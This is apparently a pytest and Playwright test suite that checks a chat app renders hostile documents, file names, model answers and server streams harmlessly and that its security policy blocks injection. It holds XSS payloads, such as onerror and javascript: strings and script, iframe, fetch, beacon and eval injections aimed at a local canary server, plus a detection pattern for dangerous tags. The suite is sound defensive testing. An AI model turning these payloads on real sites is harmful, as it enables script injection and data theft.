"""What others write — documents, their names, models, agents, services — runs nothing here and calls nobody.

Twice: the page makes it harmless, which is tried without its security policy; and where it did not, the policy would.
"""

import json
import re
from collections.abc import AsyncGenerator
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from typing import Any

import pytest
import pytest_asyncio
from aiohttp import web
from playwright.async_api import Page, Route, expect

from shared.chat_types import Passage
from tests.app.conftest import NO_VECTORS, hosted
from tests.app.playground.asking import ended
from tests.app.playground.behind import ask, tab
from tests.app.playground.documents import attacks, markdown_attacks, pdf, write
from tests.kinds import one_in
from tests.local.running_host import RunningHost
from tests.stand_ins.openai_service import OpenAIStandIn

pytestmark = [pytest.mark.asyncio(loop_scope="session"), pytest.mark.timeout(300)]

NAMES = {
    "html": "evil.html",
    "markdown": "evil.md",
    "svg": "evil.svg",
    "text": "evil.txt",
    "pdf": "evil.pdf",
    "name": "<img src=x onerror=attacked()>.md",
    "link": "javascript:attacked().html",
}
"""A hostile document of each kind, the last two by their names."""
WORDS = "The plan pays for nothing"


@dataclass
class Canary:
    """A server that nothing may call."""

    url: str = ""
    calls: list[str] = field(default_factory=list[str])


@asynccontextmanager
async def listening() -> AsyncGenerator[Canary]:
    canary = Canary()

    async def called(request: web.Request) -> web.Response:
        canary.calls.append(request.path)
        return web.Response(text="/* called */", headers={"access-control-allow-origin": "*"})

    app = web.Application()
    app.router.add_route("*", "/{path:.*}", called)
    runner = web.AppRunner(app)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    canary.url = f"http://127.0.0.1:{runner.addresses[0][1]}"
    try:
        yield canary
    finally:
        await runner.cleanup()


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def canary() -> AsyncGenerator[Canary]:
    async with listening() as server:
        yield server


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def hostile(
    tmp_path_factory: pytest.TempPathFactory, openai: OpenAIStandIn, canary: Canary
) -> AsyncGenerator[RunningHost]:
    """An app whose documents are hostile."""
    html = f"<h1>Plan</h1><p>{WORDS} in html.</p>{attacks(canary.url)}"
    markdown = f"# Plan\n\n{WORDS} in markdown.\n{markdown_attacks(canary.url)}"
    files = {
        NAMES["html"]: html.encode(),
        NAMES["markdown"]: markdown.encode(),
        NAMES["svg"]: f'<svg xmlns="http://www.w3.org/2000/svg">{WORDS} in svg.{attacks(canary.url)}</svg>'.encode(),
        NAMES["text"]: f"{WORDS} in text.\n{attacks(canary.url)}".encode(),
        NAMES["pdf"]: pdf(f"{WORDS} in pdf.", canary=canary.url),
        NAMES["name"]: f"{WORDS} in name.".encode(),
        NAMES["link"]: f"<p>{WORDS} in link.</p>".encode(),
    }
    passages = [
        Passage(str(number), f"{WORDS} in {kind}. {attacks(canary.url) if kind == 'html' else ''}", name, name)
        for number, (kind, name) in enumerate(NAMES.items())
    ]
    folder = await write(tmp_path_factory.mktemp("hostile"), files, passages)
    async with hosted(folder, openai.settings | NO_VECTORS) as host:
        yield host


DANGEROUS = """() => [...document.querySelectorAll("#app *")].flatMap((element) => [
    ...(/^(script|iframe|object|embed|meta|base|link|style|video|audio|template)$/i.test(element.tagName)
        ? [element.outerHTML] : []),
    ...[...element.attributes]
        .filter(({ name, value }) => /^on|^(srcdoc|action|formaction|ping)$/i.test(name)
            || (/(href|src)$/i.test(name) && /^\\s*(javascript|data|vbscript):/i.test(value))
            || (name === "style" && /url/i.test(value)))
        .map(({ name, value }) => `${name}=${value}`),
])"""
"""Finds what no text of others may become."""


async def assert_harmless(page: Page, canary: Canary) -> None:
    """Nothing ran, nothing is left that could, and nobody was called; the window fails for what was forbidden."""
    await page.wait_for_load_state("networkidle")
    for element in await page.get_by_text("styled").all():
        await element.dispatch_event("mouseover")
    assert not await page.evaluate("'attacked' in window")
    left = await page.evaluate(DANGEROUS)
    assert left == []
    assert await page.evaluate("document.images.length") == 0
    assert canary.calls == []


@pytest.fixture(autouse=True)
def counting_from_nothing(canary: Canary) -> None:
    canary.calls.clear()


async def without_policy(page: Page, host: RunningHost) -> None:
    """Take the security policy from the page, so that nothing but its own care is left.

    With it, a browser reports what a document tries even where the sanitiser parses it, out of which nothing runs.
    """

    async def answer(route: Route) -> None:
        response = await route.fetch()
        headers = {name: value for name, value in response.headers.items() if name != "content-security-policy"}
        await route.fulfill(response=response, headers=headers)

    await page.route(f"{host.url}/", answer)


@pytest.mark.parametrize("kind", one_in(2, NAMES))
async def test_a_hostile_document_is_shown_without_what_it_tries(
    shared_page: Page, hostile: RunningHost, openai: OpenAIStandIn, canary: Canary, kind: str
) -> None:
    page = shared_page
    if page.url == "about:blank":
        await without_policy(page, hostile)
    openai.reply(f"Nothing [{NAMES[kind]}].")
    await ask(page, hostile, f"What does the plan pay for nothing in {kind}?")
    await ended(page)
    panel = await tab(page, "Sources")
    if kind == "name":  # a tag is broken in an answer, so that this cites no source
        await panel.get_by_text("Found, not cited").click()
    await panel.get_by_role("button", name=NAMES[kind]).first.click()
    document = page.get_by_role("region", name="Document")
    await expect(document.locator("mark.passage").first).to_contain_text(WORDS)
    await assert_harmless(page, canary)


@pytest.mark.parametrize("policy", one_in(2, ["without", "with its policy"]))
async def test_a_hostile_answer_is_shown_without_what_it_tries(
    page: Page, hostile: RunningHost, openai: OpenAIStandIn, canary: Canary, policy: str
) -> None:
    if policy == "without":
        await without_policy(page, hostile)
    openai.reply("It begins. ", *markdown_attacks(canary.url).splitlines(keepends=True), "It ends [evil.html].")
    await ask(page, hostile)
    answer = await ended(page)
    await expect(answer).to_contain_text("It ends")
    await assert_harmless(page, canary)
    for name in ("Sources", "Thoughts", "Team", "Safety"):
        await tab(page, name)
        await assert_harmless(page, canary)


async def test_a_hostile_query_of_a_model_is_a_text_among_the_thoughts(
    page: Page, hostile: RunningHost, openai: OpenAIStandIn, canary: Canary
) -> None:
    openai.reply("Nothing.")
    await ask(page, hostile)
    await ended(page)
    query = f"<img src={canary.url}/query onerror=attacked()>"
    openai.call_tool("search_sources", {"search_queries": [query]})
    openai.reply("Nothing again.")
    box = page.get_by_role("textbox", name="Your question")
    await box.fill("And for more?")
    await box.press("Enter")
    await expect(page.get_by_role("group", name="Answer").last).to_contain_text("Nothing again.")
    await expect((await tab(page, "Thoughts")).get_by_text(query)).to_be_visible()
    await assert_harmless(page, canary)


def events_of_a_hostile_server(attack: str, canary: str) -> str:
    """A stream of AG-UI in which every text is an attack."""
    source = {"id": attack, "title": attack, "url": f"javascript:fetch('{canary}/url')", "text": attack}
    results = {attack: {"severity": attack, "detected": attack, "filtered": attack}, "empty": None}
    found = {"mode": attack, "prompt_filter_results": results, "content_filter_results": results}
    thoughts = [
        {"title": attack, "description": attack, "props": {attack: attack, "deep": {attack: [attack]}}},
        {"title": "Results", "description": [{"sourcepage": attack, "score": attack, attack: attack}], "props": None},
        {"title": "Prompt", "description": [{"role": attack, "content": attack}, attack, None], "props": None},
        {"title": "Unverified citations", "description": [attack, {"a": attack}], "props": None},
        {"title": "Safety", "description": {"x": attack}, "props": None},
        {"title": "Safety", "description": attack, "props": {**found, "filter_results": results}},
    ]
    news = {"kind": "agent", "agent": attack, "state": attack, "query": attack, "to": attack, "error": attack}
    events: list[dict[str, Any]] = [
        {"type": "RUN_STARTED", "threadId": "t", "runId": "r"},
        {"type": "CUSTOM", "name": "progress", "value": news},
        {"type": "CUSTOM", "name": "sources", "value": {"messageId": "m", "sources": [source]}},
        {"type": "CUSTOM", "name": "thoughts", "value": {"messageId": "m", "thoughts": thoughts}},
        {"type": "SUBAGENT_STARTED", "subagentRunId": "a", "name": attack},
        {"type": "TEXT_MESSAGE_START", "messageId": "m-0", "role": "assistant", "subagentRunId": "a"},
        {"type": "TEXT_MESSAGE_CONTENT", "messageId": "m-0", "delta": attack, "subagentRunId": "a"},
        {"type": "TEXT_MESSAGE_END", "messageId": "m-0", "subagentRunId": "a"},
        {"type": "SUBAGENT_ERROR", "subagentRunId": "a", "message": attack, "code": attack},
        {"type": "CUSTOM", "name": "followup_questions", "value": [attack]},
        {"type": "RUN_ERROR", "message": attack, "code": attack},
    ]
    return "".join(f"data: {json.dumps(event)}\n\n" for event in events)


@pytest.mark.parametrize("policy", one_in(2, ["without", "with its policy"]))
async def test_a_server_whose_every_word_is_an_attack_does_nothing(
    page: Page, hostile: RunningHost, canary: Canary, policy: str, expected_errors: list[str]
) -> None:
    expected_errors.append(re.escape("status of 400 (Bad Request)"))  # the history takes no such names of agents
    if policy == "without":
        await without_policy(page, hostile)
    attack = attacks(canary.url).replace("\n", " ")
    stream = events_of_a_hostile_server(attack, canary.url)

    async def answer(route: Route) -> None:
        await route.fulfill(body=stream, content_type="text/event-stream")

    await page.route("**/ag-ui", answer)
    await ask(page, hostile)
    await expect(page.get_by_role("group", name="Answer")).to_have_attribute("aria-busy", "false")
    for name in ("Sources", "Thoughts", "Team", "Safety"):
        panel = await tab(page, name)
        await expect(panel.get_by_text("fetch(").first).to_be_visible()
        await assert_harmless(page, canary)


ATTEMPTS = {
    "an inline script": "put('<img src=x onerror=\"window.attacked = true\">')",
    "a script element": "add('script', { textContent: 'window.attacked = true' })",
    "a script from elsewhere": "add('script', { src: canary + '/script.js' })",
    "an image": "add('img', { src: canary + '/image.png' })",
    "an image of a style": "add('div', {}).style.background = `url(${canary}/css)`",
    "a style sheet": "add('link', { rel: 'stylesheet', href: canary + '/style.css' })",
    "a style element": "add('style', { textContent: `@import '${canary}/import.css';` })",
    "a frame": "add('iframe', { src: canary + '/frame' })",
    "a frame with a script": "add('iframe', { srcdoc: '<script>parent.attacked = true</script>' })",
    "an object": "add('object', { data: canary + '/object' })",
    "a video": "add('video', { src: canary + '/video' }).load()",
    "a form": "(() => { const form = add('form', { action: canary + '/form', method: 'post' }); form.submit(); })()",
    "a request": "fetch(canary + '/fetch').catch(() => {})",
    "a beacon": "navigator.sendBeacon(canary + '/beacon')",
    "a web socket": "new WebSocket(canary.replace('http', 'ws') + '/socket')",
    "a worker": "new Worker(URL.createObjectURL(new Blob(['fetch(\"' + canary + '/worker\")'])))",
    "eval": "(0, eval)('window.attacked = true')",
    "a link with a script": "add('a', { href: 'javascript:window.attacked = true' }).click()",
    "an element of SVG": "put('<svg><animate onbegin=\"window.attacked = true\" attributeName=x dur=1s /></svg>')",
}
"""What an attack would do that the page's own care had missed."""
BYPASS = """([attempt, canary]) => {
    const add = (tag, values) => document.body.appendChild(Object.assign(document.createElement(tag), values));
    const put = (html) => {
        // As a careless policy would: the strictest part of ours allows none with this name.
        const trusted = window.trustedTypes.createPolicy("careless", { createHTML: (text) => text });
        add("div", {}).innerHTML = trusted.createHTML(html);
    };
    return new Promise((resolve) => {
        const seen = [];
        addEventListener("securitypolicyviolation", (event) => {
            seen.push(event.effectiveDirective);
            resolve(seen[0]);
        });
        // Later, since the policy does not count for what the debugger evaluates.
        setTimeout(() => { try { ATTEMPT } catch (error) { setTimeout(() => resolve(seen[0] ?? error.name), 500); } });
        setTimeout(() => resolve("nothing stopped it"), 20_000);
    });
}"""


@pytest.mark.parametrize("attempt", one_in(6, ATTEMPTS))
async def test_where_the_page_had_let_it_through_the_security_policy_stops_it(
    page: Page, hostile: RunningHost, canary: Canary, attempt: str, expected_errors: list[str]
) -> None:
    expected_errors.append("")
    await page.goto(f"{hostile.url}/")
    await expect(page.get_by_role("main")).to_be_visible()
    script = BYPASS.replace("ATTEMPT", ATTEMPTS[attempt])
    violated = await page.evaluate(script, [attempt, canary.url])
    assert violated in POLICY, violated
    await page.wait_for_load_state("networkidle")
    assert not await page.evaluate("'attacked' in window")
    assert canary.calls == []


POLICY = {
    *("script-src-elem", "script-src-attr", "script-src", "style-src-elem", "style-src-attr", "img-src", "frame-src"),
    *("object-src", "media-src", "form-action", "connect-src", "worker-src", "default-src"),
    *("require-trusted-types-for", "trusted-types"),
}
"""The parts of the policy that may be what stops an attempt."""


async def test_the_canary_sings(page: Page, canary: Canary) -> None:
    """The proof that the others can fail: the same attacks call the canary from a page that takes no care."""
    await page.route("**/careless", lambda route: route.fulfill(body=attacks(canary.url), content_type="text/html"))
    await page.goto(f"{canary.url}/careless")
    await page.wait_for_url("**/refresh")
    assert {"/image.png", "/style.css", "/called"} <= {*canary.calls}
